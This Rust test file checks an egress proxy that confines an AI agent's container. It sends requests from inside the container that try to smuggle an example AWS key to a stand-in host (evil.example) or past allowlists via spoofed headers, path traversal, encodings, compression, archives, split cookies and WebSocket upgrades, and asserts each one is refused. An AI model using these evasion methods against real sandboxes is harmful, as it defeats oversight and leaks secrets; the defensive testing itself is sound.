//! Escape class: the egress proxy, attacked from inside a real bottle's
//! agent container as the agent, over raw HTTP to the bundle. Each attack
//! is refused with the marker, and the audit log keeps no secret.

mod support;

use std::sync::Mutex;

use support::docker::{bundle_file, bundle_stat, docker_ok, Env};

static SERIAL: Mutex<()> = Mutex::new(());

const MARKER: &str = "bb egress blocked this request";
const KEY: &str = "AKIAIOSFODNN7EXAMPLE";

/// Send `request` (with `\r\n` escapes) to the proxy from inside the agent.
fn from_agent(agent: &str, request: &str) -> String {
    let out = std::process::Command::new("docker")
        .args([
            "exec",
            "-u",
            "node",
            "-e",
            &format!("REQ={request}"),
            agent,
            "bash",
            "-c",
        ])
        .arg("exec 3<>/dev/tcp/sidecars/9099; printf '%b' \"$REQ\" >&3; timeout 10 cat <&3")
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn the_proxy_refuses_each_way_around_it() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new("");
    // A route with a path allowlist besides the fake bottle's own.
    let bottle = env.home().join("bottles/fake.md");
    let text = std::fs::read_to_string(&bottle).unwrap().replace(
        "  allowlist: [example.com]",
        "    - host: paths.example.com\n      path_allowlist: [/allowed/]\n  allowlist: [example.com]",
    );
    std::fs::write(&bottle, text).unwrap();
    let slug = env.start();
    let agent = format!("bb-{slug}");
    let hex: String = KEY.bytes().map(|b| format!("{b:02x}")).collect();
    let get = |url: &str, headers: &str| {
        let host = url.split('/').nth(2).unwrap_or("");
        format!("GET {url} HTTP/1.1\\r\\nHost: {host}\\r\\n{headers}Connection: close\\r\\n\\r\\n")
    };
    let b64 = "QUtJQUlPU0ZPRE5ON0VYQU1QTEU="; // AKIAIOSFODNN7EXAMPLE
    let body = format!("data={b64}");
    // (what, the request, what the refusal must say)
    let attacks: Vec<(&str, String, &str)> = vec![
        ("a host not allowed", get("http://evil.example/", ""), "host evil.example is not in"),
        ("an IP literal", get("http://192.0.2.10/", ""), "is an IP address"),
        ("a spoofed Host", "GET http://evil.example/ HTTP/1.1\\r\\nHost: example.com\\r\\nConnection: close\\r\\n\\r\\n".into(), "evil.example"),
        ("another port, plain", get("http://example.com:8081/", ""), "port 8081 is not allowed"),
        ("another port, CONNECT", "CONNECT example.com:8081 HTTP/1.1\\r\\nHost: example.com:8081\\r\\n\\r\\n".into(), "port 8081 is not allowed"),
        ("a path climbing out", get("http://paths.example.com/allowed/../secret", ""), "cannot be checked safely"),
        ("an encoded climb", get("http://paths.example.com/allowed/%2e%2e/secret", ""), "cannot be checked safely"),
        ("a credential over plain HTTP", get("http://api.example.com/", ""), "only over https"),
        ("a key in the path", get(&format!("http://example.com/x/{KEY}"), ""), "aws-access-key-id"),
        ("a hex key in the path", get(&format!("http://example.com/x/{hex}"), ""), "aws-access-key-id"),
        ("a lower-cased key in a header", get("http://example.com/", &format!("X-K: {}\\r\\n", KEY.to_ascii_lowercase())), "aws-access-key-id"),
        ("a key split over two headers", get("http://example.com/", &format!("X-A: {}\\r\\nX-B: {}\\r\\n", &KEY[..10], &KEY[10..])), "aws-access-key-id"),
        ("a base64 key in the body", format!("POST http://example.com/up HTTP/1.1\\r\\nHost: example.com\\r\\nContent-Length: {}\\r\\nConnection: close\\r\\n\\r\\n{body}", body.len()), "aws-access-key-id"),
        ("a key in a subdomain", "CONNECT akiaiosfodnn7example.example.com:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".into(), "host looks like a secret"),
    ];
    for (what, request, why) in &attacks {
        let answer = from_agent(&agent, request);
        assert!(answer.starts_with("HTTP/1.1 403"), "{what}: {answer}");
        assert!(answer.contains(MARKER), "{what}: {answer}");
        assert!(answer.contains(why), "{what}: {answer}");
        // The refusal says how to ask, and names no internal address.
        assert!(answer.contains("supervise tool"), "{what}: {answer}");
        assert!(
            !answer.contains("172.") && !answer.contains("192.168."),
            "{what}: {answer}"
        );
    }
    let audit = bundle_file(&slug, "/var/lib/bb/audit.jsonl");
    assert!(!audit.to_ascii_uppercase().contains(KEY), "{audit}");
    assert!(!audit.contains(&hex), "{audit}");
    // egress writes it, the state's group (bb's operator channel) reads
    // it, nobody else.
    assert_eq!(
        bundle_stat(&slug, "%u %g %a", "/var/lib/bb/audit.jsonl"),
        "10901 10900 640"
    );
}

/// Send raw `bytes` to the proxy from inside the agent; the answer.
fn from_agent_bytes(agent: &str, bytes: &[u8]) -> String {
    use std::io::Write;
    let mut child = std::process::Command::new("docker")
        .args(["exec", "-i", "-u", "node", agent, "bash", "-c"])
        .arg("exec 3<>/dev/tcp/sidecars/9099; cat >&3; timeout 10 cat <&3")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(bytes).unwrap();
    let out = child.wait_with_output().unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// A POST to example.com with `headers` and `body`.
fn post(headers: &str, body: &[u8]) -> Vec<u8> {
    let mut req = format!(
        "POST http://example.com/up HTTP/1.1\r\nHost: example.com\r\n{headers}Content-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    )
    .into_bytes();
    req.extend_from_slice(body);
    req
}

fn gzip(b: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(b).unwrap();
    e.finish().unwrap()
}

fn zstd(b: &[u8]) -> Vec<u8> {
    ruzstd::encoding::compress_to_vec(b, ruzstd::encoding::CompressionLevel::Fastest)
}

/// What an API server would decode, an attacker encodes: each content
/// coding real clients send (and a stack of them), archives sent as
/// ordinary bodies, JSON escapes, base32, a key split over query values or
/// cookies, a decompression bomb, a WebSocket upgrade. Each is refused
/// with the marker and its reason; none reaches the upstream.
#[test]
fn what_a_server_would_decode_is_read_before_it_leaves() {
    use std::io::Write;
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new("");
    let slug = env.start();
    let agent = format!("bb-{slug}");
    let secret = format!("{{\"aws_access_key_id\": \"{KEY}\"}}").into_bytes();
    let brotli = {
        let mut out = Vec::new();
        brotli::BrotliCompress(
            &mut &secret[..],
            &mut out,
            &brotli::enc::BrotliEncoderParams::default(),
        )
        .unwrap();
        out
    };
    let zip = {
        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let deflated = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        w.start_file("backup/credentials.json", deflated).unwrap();
        w.write_all(&b"{\"note\": \"ordinary\"}\n".repeat(30))
            .unwrap();
        w.write_all(&secret).unwrap();
        w.finish().unwrap().into_inner()
    };
    let escaped: String = KEY
        .chars()
        .map(|c| format!("\\u{:04x}", c as u32))
        .collect();
    let base32 = data_encoding::BASE32.encode(KEY.as_bytes());
    let (a, b) = (&KEY[..9], &KEY[9..]);
    let get = |target: &str, headers: &str| {
        format!("GET {target} HTTP/1.1\r\nHost: example.com\r\n{headers}Connection: close\r\n\r\n")
            .into_bytes()
    };
    let json = format!("{{\"note\": \"{escaped}\"}}");
    // (what, the request, its status, what the refusal says)
    let attacks: Vec<(&str, Vec<u8>, &str, &str)> = vec![
        ("a zstd body", post("Content-Encoding: zstd\r\n", &zstd(&secret)), "403", "aws-access-key-id"),
        ("a brotli body", post("Content-Encoding: br\r\n", &brotli), "403", "aws-access-key-id"),
        ("gzip then zstd", post("Content-Encoding: gzip, zstd\r\n", &zstd(&gzip(&secret))), "403", "aws-access-key-id"),
        ("a .zip sent as it is", post("Content-Type: application/zip\r\n", &zip), "403", "aws-access-key-id"),
        ("a .gz sent as it is", post("", &gzip(&secret)), "403", "aws-access-key-id"),
        ("JSON \\u escapes", post("Content-Type: application/json\r\n", json.as_bytes()), "403", "aws-access-key-id"),
        ("base32 in a header", get("http://example.com/x", &format!("X-Trace: {base32}\r\n")), "403", "aws-access-key-id"),
        ("split over two query values", get(&format!("http://example.com/x?a={a}&b={b}"), ""), "403", "aws-access-key-id"),
        ("split over two cookies", get("http://example.com/x", &format!("Cookie: a={a}; b={b}\r\n")), "403", "aws-access-key-id"),
        ("a zstd bomb", post("Content-Encoding: zstd\r\n", &zstd(&vec![0u8; 64 << 20])), "413", "decompression bomb"),
        ("a coding nothing reads", post("Content-Encoding: compress\r\n", b"x"), "415", "cannot be read"),
        ("a WebSocket upgrade", get("http://example.com/ws", "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"), "403", "switching protocols"),
    ];
    for (what, request, status, why) in &attacks {
        let answer = from_agent_bytes(&agent, request);
        assert!(
            answer.starts_with(&format!("HTTP/1.1 {status}")),
            "{what}: {answer}"
        );
        assert!(answer.contains(MARKER), "{what}: {answer}");
        assert!(answer.contains(why), "{what}: {answer}");
    }
    // Nothing was let through: example.com does not resolve here, so a
    // request that passed would be a 502, and the log would say so.
    let audit = bundle_file(&slug, "/var/lib/bb/audit.jsonl");
    assert!(!audit.contains("\"failed\""), "{audit}");
    assert!(!audit.to_ascii_uppercase().contains(KEY), "{audit}");
}
